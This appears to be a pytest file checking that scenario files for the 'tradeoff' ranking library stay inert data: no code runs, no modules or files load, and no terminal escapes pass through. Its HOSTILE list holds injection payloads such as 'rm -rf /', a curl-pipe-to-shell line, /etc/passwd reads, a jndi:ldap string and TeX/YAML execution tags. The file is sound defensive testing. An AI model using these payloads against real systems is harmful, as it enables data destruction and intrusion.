"""Trust boundaries (docs/safety.md): what a scenario file can and cannot do.

A scenario is data.  Loading, ranking and reporting on one opens no file but the
scenario itself, imports nothing, compiles and runs no code and starts no process,
whatever its text says; an audit hook (``sys.addaudithook``, in a subprocess: a hook
cannot be removed) watches.  Nothing in a scenario names a module or a path to load:
plugins come only from installed entry points, and an app can refuse those too
(``Engine(entry_points=False)``, ``TRADEOFF_NO_ENTRY_POINTS=1``, ``--no-entry-points``).
Error messages show paths as the user gave them.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
import tomli_w

import tradeoff
from tradeoff.cli import main

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "it-outsourcing.toml"
ENV = {**os.environ, "TRADEOFF_NO_ENTRY_POINTS": "1", "SOURCE_DATE_EPOCH": "1767225600", "PYTHONDONTWRITEBYTECODE": "1"}

#: Text that means something to a shell, a template engine, a YAML loader, Python, TeX,
#: a browser, a spreadsheet or a logger -- and nothing to tradeoff.
HOSTILE = (
    "../../etc/passwd",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "file:///etc/shadow",
    "C:\\Windows\\win.ini",
    "\\\\server\\share\\x.toml",
    "$(rm -rf /)",
    "`touch /tmp/tradeoff-pwned`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& curl http://example.invalid | sh",
    "{__import__('os').system('id')}",
    "__import__('os').system('id')",
    "eval(compile('1', 'x', 'exec'))",
    "%(HOME)s {HOME} ${HOME} %HOME%",
    "{0.__class__.__mro__}",
    "!!python/object/apply:os.system ['id']",
    "<script>alert(1)</script>",
    "$\\input{/etc/passwd}$",
    "\\write18{id}",
    '<!--#exec cmd="id" -->',
    "=cmd|' /C calc'!A0",
    "import antigravity",
    "antigravity",
    "tradeoff.plugins.wsm",
    "sub/../s.toml",
    "${jndi:ldap://example.invalid/a}",
    "\x00nul \x1b[31mred\x1b[0m \x07",
)
#: Modules nothing imports unless told to: a scenario naming them must not load them.
NAMED_MODULES = ("antigravity", "this", "webbrowser", "http.server", "evil_plugin")


def scenario_text(texts: tuple[str, ...], *, many: bool = False) -> str:
    """A valid scenario whose every free-text field holds `texts` (each string alone
    in some field when `many`: one alternative, criterion and stakeholder per string;
    otherwise a few of each, every string in every kind of field)."""
    n = len(texts) if many else 4
    m = len(texts) if many else 3

    def part(k: int, slots: int) -> str:  # slot k of `slots`: alone, or every slots-th string
        return texts[k % len(texts)] if many else " ".join(texts[k::slots])

    ids = [f"c{j}" for j in range(m)]
    data: dict[str, Any] = {
        "format": 1,
        "title": " | ".join(texts),
        "description": "\n".join(texts),
        "context": {"note": " ".join(texts), "path": texts[0]},
        "method": {"name": "topsis", "normalization": "vector"},
        "stakeholders": [
            {"name": part(k, 2), "influence": 1 + k, "weights": {"scheme": "roc", "order": ids[k:] + ids[:k]}}
            for k in range(len(texts) if many else 2)
        ],
        "criteria": {
            cid: {"direction": "min" if j % 3 == 0 else "max", "label": part(j, m), "unit": part(j + 1, m),
                  "description": part(j + 2, m)}
            for j, cid in enumerate(ids)
        },
        "alternatives": [
            {
                "name": part(i, n),
                "description": part(i + 1, n),
                "values": {cid: float((i * 7 + j * 3) % 11 + 1) for j, cid in enumerate(ids)},
                "facts": {"note": part(i + 2, n), "file": texts[i % len(texts)]},
            }
            for i in range(n)
        ],
    }
    return tomli_w.dumps(data)


PLAIN = tuple(f"Plain text number {k}" for k in range(len(HOSTILE)))

#: Scenarios that are errors because of what they name: a module, a path, a key.
NAMING = {
    "top-level plugins key": 'format = 1\nplugins = ["os"]\n',
    "top-level import key": 'format = 1\nimport = "antigravity"\n',
    "top-level include key": 'format = 1\ninclude = "/etc/passwd"\n',
    "top-level module key": 'format = 1\nmodule = "evil_plugin"\n',
    "top-level entry_points key": 'format = 1\nentry_points = { tradeoff = ["evil_plugin"] }\n',
    "method named as a module": 'format = 1\nmethod = "antigravity"\n[criteria.x]\ndirection = "max"\n'
    '[[alternatives]]\nname = "A"\nvalues = { x = 1 }\n',
    "method named as a path": 'format = 1\nmethod = "../../etc/passwd"\n[criteria.x]\ndirection = "max"\n'
    '[[alternatives]]\nname = "A"\nvalues = { x = 1 }\n',
    "method with a plugin key": 'format = 1\n[method]\nname = "wsm"\nplugin = "webbrowser"\n[criteria.x]\n'
    'direction = "max"\n[[alternatives]]\nname = "A"\nvalues = { x = 1 }\n',
    "normalization named as a module": 'format = 1\nmethod = { name = "wsm", normalization = "this" }\n'
    '[criteria.x]\ndirection = "max"\n[[alternatives]]\nname = "A"\nvalues = { x = 1 }\n',
    "weights scheme named as a module": 'format = 1\n[weights]\nscheme = "http.server"\n[criteria.x]\n'
    'direction = "max"\n[[alternatives]]\nname = "A"\nvalues = { x = 1 }\n',
    "criterion named as a module": 'format = 1\n[criteria.evil_plugin]\nweight = 1\n[[alternatives]]\nname = "A"\n',
    "criterion with a module key": 'format = 1\n[criteria.x]\ndirection = "max"\nmodule = "antigravity"\n'
    '[[alternatives]]\nname = "A"\nvalues = { x = 1 }\n',
    "a YAML tag": 'format = 1\ntitle = !!python/object/apply:os.system ["id"]\n',
    "format as a path": 'format = "../../etc/passwd"\n',
}

#: The same kinds of error with plain names: the modules a first error of a kind
#: imports (tradeoff's own, such as the list of known plugins) are imported by these.
PLAIN_ERRORS = (
    'format = 1\nbogus = "x"\n',
    'format = 1\nmethod = "bogus"\n[criteria.x]\ndirection = "max"\n[[alternatives]]\nname = "A"\nvalues = { x = 1 }\n',
    'format = 1\n[weights]\nscheme = "bogus"\n[criteria.x]\ndirection = "max"\n[[alternatives]]\nname = "A"\n'
    'values = { x = 1 }\n',
    'format = 1\n[criteria.bogus]\nweight = 1\n[[alternatives]]\nname = "A"\n',
    'format = "x"\n',
    'format = 1\ntitle = @\n',
)

AUDIT = r'''
"""Load, rank and report on scenario files under an audit hook; print what happened."""
import json, sys

PREFIXES = ("os.", "subprocess.", "shutil.", "socket.", "ctypes.", "urllib.", "webbrowser.", "pty.",
            "marshal.", "pickle.", "glob.", "tempfile.", "sqlite3.", "http.", "ftplib.", "smtplib.")
NAMES = {"open", "exec", "compile", "import", "code.__new__", "function.__new__", "builtins.input",
         "cpython.run_command", "cpython.run_file", "sys.settrace", "sys.setprofile", "sys.addaudithook"}
events = None


def hook(event, args):
    if events is not None and (event in NAMES or event.startswith(PREFIXES)):
        if event == "compile":
            what = args[1]
        elif event == "exec":
            what = getattr(args[0], "co_filename", "?")
        elif event == "marshal.loads":
            what = ""
        else:
            what = args[0] if args else ""
        events.append([event, str(what)])


sys.addaudithook(hook)

import tradeoff
from tradeoff.output import render as formats
from tradeoff.output.report import render

engine = tradeoff.Engine(entry_points=False)


def run(path, charts):
    try:
        scenario = tradeoff.load(path)
        result = engine.rank(scenario)
        for fmt in formats.FORMATS:
            formats.render(result, fmt)
        json.dumps(result.to_dict())
        data = engine.report_data(scenario, sensitivity=charts, samples=50)
        render(engine.report_format("markdown"), data)
        if charts:
            render(engine.report_format("html"), data)
        return "ranked"
    except tradeoff.TradeoffError as error:
        return "error: " + str(error)


mode, *paths = sys.argv[1:]
out = {}
if mode == "cold":  # the first scenario of a fresh process: imports and all
    events = []
    out[paths[0]] = {"outcome": run(paths[0], True), "events": events}
else:  # "warm": after plain scenarios, valid and not, those after "--" each alone
    cut = paths.index("--")
    for path in paths[:cut]:
        run(path, True), run(path, False)
    for path in paths[cut + 1:]:
        events = []
        outcome = run(path, path.endswith("charts.toml"))
        out[path] = {"outcome": outcome, "events": events}
        events = None
out["modules"] = sorted(sys.modules)
events = None
print(json.dumps(out))
'''


def audited(tmp_path: Path, mode: str, *paths: Path) -> dict[str, Any]:
    script = tmp_path / "audit.py"
    script.write_text(AUDIT, encoding="utf-8")
    done = subprocess.run(
        [sys.executable, str(script), mode, *map(str, paths)], capture_output=True, text=True, env=ENV, timeout=180
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.slow
def test_a_scenario_opens_imports_and_runs_nothing_whatever_it_says(tmp_path):
    plain = tmp_path / "plain.toml"
    plain.write_text(scenario_text(PLAIN), encoding="utf-8")
    warm_up = [plain]  # what a first error of each kind imports, it imports before
    for k, text in enumerate(PLAIN_ERRORS):
        warm_up.append(tmp_path / f"plain-error-{k}.toml")
        warm_up[-1].write_text(text, encoding="utf-8")
    hostile = [tmp_path / "hostile-charts.toml", tmp_path / "hostile-alone.toml"]
    hostile[0].write_text(scenario_text(HOSTILE), encoding="utf-8")
    hostile[1].write_text(scenario_text(HOSTILE, many=True), encoding="utf-8")
    naming = []
    for k, text in enumerate(NAMING.values()):
        naming.append(tmp_path / f"naming-{k}.toml")
        naming[-1].write_text(text, encoding="utf-8")
    found = audited(tmp_path, "warm", *warm_up, "--", *hostile, *naming)
    assert found[str(hostile[0])]["outcome"] == found[str(hostile[1])]["outcome"] == "ranked"
    for path in hostile + naming:
        events = found[str(path)]["events"]
        assert events == [["open", str(path)]], f"{path.name}: {events[:20]}"
    for name, path in zip(NAMING, naming):
        assert found[str(path)]["outcome"].startswith(f"error: {path}:"), name
    assert not set(NAMED_MODULES) & set(found["modules"])


@pytest.mark.slow
def test_which_modules_are_imported_does_not_depend_on_the_scenario(tmp_path):
    """Two fresh processes, one ranking and reporting on a plain scenario, the other on
    the same scenario with hostile text: the same modules are imported, the same
    files opened (but the scenario), the same code compiled."""
    plain = tmp_path / "plain-charts.toml"
    plain.write_text(scenario_text(PLAIN), encoding="utf-8")
    hostile = tmp_path / "hostile-charts.toml"
    hostile.write_text(scenario_text(HOSTILE), encoding="utf-8")
    # caches a first run may build (matplotlib's font list): built before either is watched
    subprocess.run([sys.executable, "-c", "import matplotlib.font_manager"], env=ENV, capture_output=True, timeout=120)
    runs = {}
    for path in (plain, hostile):
        found = audited(tmp_path, "cold", path)
        assert found[str(path)]["outcome"] == "ranked"
        events = [(event, what.replace(str(path), "SCENARIO")) for event, what in found[str(path)]["events"]]
        runs[path.name] = (events, found["modules"])
    (plain_events, plain_modules), (hostile_events, hostile_modules) = runs.values()
    assert hostile_modules == plain_modules
    for kind in ("import", "open", "compile", "exec"):
        assert {w for e, w in hostile_events if e == kind} == {w for e, w in plain_events if e == kind}, kind
    assert ("open", "SCENARIO") in hostile_events
    others = {e for e, _ in hostile_events} - {"import", "open", "compile", "exec", "marshal.loads", "os.listdir",
                                                "os.scandir", "os.mkdir", "os.getxattr"}
    assert not others, others


@pytest.mark.parametrize("key", ["plugins", "plugin", "import", "imports", "module", "modules", "entry_points",
                                 "include", "extends", "path", "python", "code", "hooks"])
def test_no_key_of_a_scenario_names_something_to_load(key):
    with pytest.raises(tradeoff.ScenarioError) as info:
        tradeoff.loads(f'format = 1\n{key} = ["os"]\n')
    assert f'unknown key "{key}"' in str(info.value)


# -- plugins: entry points only, and an app can refuse them --------------------------------


def install_fake_distribution(root: Path, module_source: str, name: str) -> None:
    """A distribution on sys.path with one `tradeoff` entry point, as pip would leave it
    (as tests/test_registry.py's helper of that name)."""
    (root / f"{name}.py").write_text(textwrap.dedent(module_source), encoding="utf-8")
    info = root / f"{name}-6.6.6.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 6.6.6\n", encoding="utf-8")
    (info / "entry_points.txt").write_text(f"[tradeoff]\n{name} = {name}\n", encoding="utf-8")


REFUSING = r'''
"""Every way to refuse third-party plugins, the marker checked after each."""
import contextlib, io, json, os, sys
from pathlib import Path

marker, scenario, naming = Path(sys.argv[1]), sys.argv[2], sys.argv[3]
steps = {}


def step(name, call):
    try:
        with contextlib.redirect_stdout(io.StringIO()) as out, contextlib.redirect_stderr(io.StringIO()):
            value = call()
    except Exception as error:
        value = f"{type(error).__name__}: {error}"
    else:
        value = value if isinstance(value, (int, str)) else type(value).__name__
    steps[name] = {"value": value, "imported": marker.exists() or "evil_plugin" in sys.modules,
                   "listed": "evil_plugin" in out.getvalue()}


import tradeoff
from tradeoff.cli import main

os.environ.pop("TRADEOFF_NO_ENTRY_POINTS", None)
step("Engine(entry_points=False)", lambda: tradeoff.Engine(entry_points=False).rank(tradeoff.load(scenario)))
step("Engine(entry_points={'other'})", lambda: tradeoff.Engine(entry_points={"other"}))
step("Engine(block={'evil_plugin'})", lambda: tradeoff.Engine(block={"evil_plugin"}))
step("tradeoff --no-entry-points plugins", lambda: main(["--no-entry-points", "plugins"]))
step("tradeoff --no-entry-points rank", lambda: main(["--no-entry-points", "rank", scenario]))
step("a scenario naming the plugin", lambda: main(["--no-entry-points", "rank", naming]))
os.environ["TRADEOFF_NO_ENTRY_POINTS"] = "1"
step("TRADEOFF_NO_ENTRY_POINTS=1 tradeoff.rank", lambda: tradeoff.rank(tradeoff.load(scenario)))
step("TRADEOFF_NO_ENTRY_POINTS=1 tradeoff plugins", lambda: main(["plugins"]))
step("TRADEOFF_NO_ENTRY_POINTS=1 tradeoff rank", lambda: main(["rank", scenario]))
step("TRADEOFF_NO_ENTRY_POINTS=1 tradeoff report", lambda: main(["report", scenario, "--format", "markdown"]))
if len(sys.argv) > 4:  # the control: entry points allowed, the plugin loads
    os.environ.pop("TRADEOFF_NO_ENTRY_POINTS")
    step("Engine()", lambda: tradeoff.Engine())
print(json.dumps(steps))
'''

EVIL = """
    from pathlib import Path
    Path({marker!r}).write_text("evil_plugin was imported")
"""


@pytest.mark.slow
def test_an_app_can_refuse_every_third_party_plugin(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    marker = tmp_path / "marker"
    install_fake_distribution(site, EVIL.format(marker=str(marker)), "evil_plugin")
    naming = tmp_path / "naming.toml"
    naming.write_text(NAMING["criterion named as a module"], encoding="utf-8")
    script = tmp_path / "refuse.py"
    script.write_text(REFUSING, encoding="utf-8")
    env = {**ENV, "PYTHONPATH": os.pathsep.join([str(site), ENV.get("PYTHONPATH", "")]).rstrip(os.pathsep)}

    def run(*control: str) -> dict[str, Any]:
        done = subprocess.run([sys.executable, str(script), str(marker), str(EXAMPLE), str(naming), *control],
                              capture_output=True, text=True, env=env, timeout=120)
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)

    steps = run()
    for name, step in steps.items():
        assert not step["imported"], f"{name} imported the plugin"
        assert not step["listed"], f"{name} listed the plugin"
        assert not str(step["value"]).startswith(("PluginError", "SystemExit")), (name, step)
    assert steps["a scenario naming the plugin"]["value"] == 2
    assert not marker.exists()
    # the control: the same distribution, entry points allowed, is imported
    control = run("control")
    assert control["Engine()"]["imported"] and marker.exists()


# -- paths in messages are the user's own ----------------------------------------------------


@pytest.mark.slow
def test_paths_in_messages_are_printed_as_given(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "s.toml").write_text('format = 1\nbogus = "x"\n', encoding="utf-8")
    (tmp_path / "link.toml").symlink_to(tmp_path / "s.toml")
    (tmp_path / "ok.toml").write_bytes(EXAMPLE.read_bytes())
    home_path = f"{tmp_path}/sub/../s.toml"
    cases = [
        (["rank", "sub/../s.toml"], "error: sub/../s.toml:2: bogus: "),
        (["rank", "./sub//../link.toml"], "error: ./sub//../link.toml:2: bogus: "),
        (["rank", "~/s.toml"], "error: ~/s.toml: expected a scenario file, got no such file\n"),
        (["rank", home_path], f"error: {home_path}:2: bogus: "),
        (["validate", "sub/../s.toml"], "error: sub/../s.toml:2: bogus: "),
        (["report", "sub/../link.toml"], "error: sub/../link.toml:2: bogus: "),
        (["rank", "ok.toml", "-o", "sub/../missing/out.txt"],
         'error: -o: expected a file in an existing folder, got "sub/../missing/out.txt"\n'),
        (["rank", "ok.toml", "--alternatives", "sub/../none.csv"],
         "error: sub/../none.csv: expected a file of alternatives, got no such file\n"),
        (["batch", "sub/../s.toml", "-o", "./sub/../out"], "error: sub/../s.toml:2: bogus: "),
    ]
    env = {**ENV, "HOME": str(tmp_path)}  # ~ is the home folder: still not expanded, nor put back
    for args, start in cases:
        done = subprocess.run([sys.executable, "-m", "tradeoff.cli", *args], capture_output=True, text=True,
                              env=env, cwd=tmp_path, timeout=60)
        assert done.returncode == 2, args
        assert done.stderr.startswith(start), (args, done.stderr)
        assert done.stderr.count("\n") == 1, (args, done.stderr)
    assert "see ./sub/../out/errors.txt" in done.stdout and "summary in ./sub/../out/summary.csv" in done.stdout
    errors = (tmp_path / "out" / "errors.txt").read_text(encoding="utf-8")
    assert errors.startswith("error: sub/../s.toml:2: bogus: ")


def test_the_library_keeps_the_path_as_given_too(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "s.toml").write_bytes(EXAMPLE.read_bytes())
    (tmp_path / "bad.toml").write_text('format = 1\nbogus = "x"\n', encoding="utf-8")
    with pytest.raises(tradeoff.ScenarioError) as info:
        tradeoff.load("sub/../bad.toml")
    assert str(info.value).startswith("sub/../bad.toml:2: bogus: ")
    assert info.value.file == "sub/../bad.toml"
    engine = tradeoff.Engine(entry_points=False)
    scenario = tradeoff.load(Path("sub/../s.toml"))
    assert scenario.source.file == "sub/../s.toml"
    assert engine.report_data(scenario).provenance.file == "sub/../s.toml"
    assert main(["--no-entry-points", "report", "sub/../s.toml", "--format", "markdown", "-o", "r.md"]) == 0
    assert "Scenario file: `sub/../s.toml`" in (tmp_path / "r.md").read_text(encoding="utf-8")


# -- text in charts is text ------------------------------------------------------------------


def test_chart_text_is_never_tex(monkeypatch):
    """Names drawn on charts are shown as they are: never parsed as TeX math (``$\\verb$``
    fails to parse; ``$x$`` would show as an italic x), never handed to LaTeX, even in an
    app that turned ``text.usetex`` on (LaTeX can read files: ``\\input{/etc/passwd}``)."""
    if os.environ.get("TRADEOFF_REQUIRE_MATPLOTLIB") != "1":
        pytest.importorskip("matplotlib")
    import matplotlib
    import matplotlib.mathtext
    import matplotlib.texmanager

    parsed: list[str] = []
    real_parse = matplotlib.mathtext.MathTextParser.parse
    monkeypatch.setattr(matplotlib.mathtext.MathTextParser, "parse",
                        lambda self, s, *a, **k: parsed.append(s) or real_parse(self, s, *a, **k))
    latex: list[str] = []
    for name in ("make_dvi", "make_png", "get_text_width_height_descent"):
        monkeypatch.setattr(matplotlib.texmanager.TexManager, name,
                            classmethod(lambda cls, tex, *a, **k: latex.append(tex) or pytest.fail(f"LaTeX ran on {tex!r}")))
    text = EXAMPLE.read_text(encoding="utf-8")
    names = ["$x$", "$\\verb$", "$\\input{/etc/passwd}$ \u001b[31m"]
    for old, new in zip(["Keep it in-house", "BrightPath Managed IT", "Cloudwise Solutions"], names):
        text = text.replace(f'name = "{old}"', f"name = {json.dumps(new)}")  # JSON strings are TOML's
    scenario = tradeoff.loads(text)
    engine = tradeoff.Engine(entry_points=False)
    page = engine.report(scenario, fmt="html", sensitivity=True, samples=50)
    assert parsed == []
    assert "$\\verb$" in page and "$x$" in page
    with matplotlib.rc_context({"text.usetex": True}):
        engine.report(scenario, fmt="html", sensitivity=True, samples=50)
    assert latex == []
    assert not [s for s in parsed if "verb" in s or "input" in s or "x$" in s]


ESCAPE = "Evil\x1b]0;owned\x07\x1b[31m Corp\r\nline two\x9b2J"


def test_names_cannot_send_escape_codes_to_a_terminal(tmp_path, monkeypatch, capsys):
    """A vendor's name is printed, never obeyed: on a terminal every control character
    becomes U+FFFD; error and warning lines stay one line.  Files keep the bytes."""
    import io
    import json as json_module

    from tradeoff.cli import main

    path = tmp_path / "s.toml"
    path.write_text(
        '[criteria.a]\ndirection = "max"\nweight = 1\n'
        f'[[alternatives]]\nname = {json_module.dumps(ESCAPE)}\nvalues = {{ a = 1 }}\n'
        '[[alternatives]]\nname = "Plain"\nvalues = { a = 2 }\n',
        encoding="utf-8",
    )

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    screen = Terminal()
    monkeypatch.setattr("sys.stdout", screen)
    assert main(["rank", str(path)]) == 0
    shown = screen.getvalue()
    assert not any(ord(c) < 32 and c not in "\n\t" or 127 <= ord(c) < 160 for c in shown)
    assert "Evil\ufffd]0;owned\ufffd\ufffd[31m Corp" in shown
    monkeypatch.undo()

    out = tmp_path / "r.json"  # a file is data: the name exactly as given
    assert main(["rank", str(path), "--format", "json", "-o", str(out)]) == 0
    assert ESCAPE in [a["name"] for a in json_module.loads(out.read_text(encoding="utf-8"))["alternatives"]]

    bad = tmp_path / "bad.toml"
    bad.write_text(f'[criteria.a]\ndirection = "max"\n[[alternatives]]\nname = {json_module.dumps(ESCAPE)}\n', encoding="utf-8")
    capsys.readouterr()
    assert main(["rank", str(bad)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: ")
    assert not any(ord(c) < 32 and c != "\n" or 127 <= ord(c) < 160 for c in err)
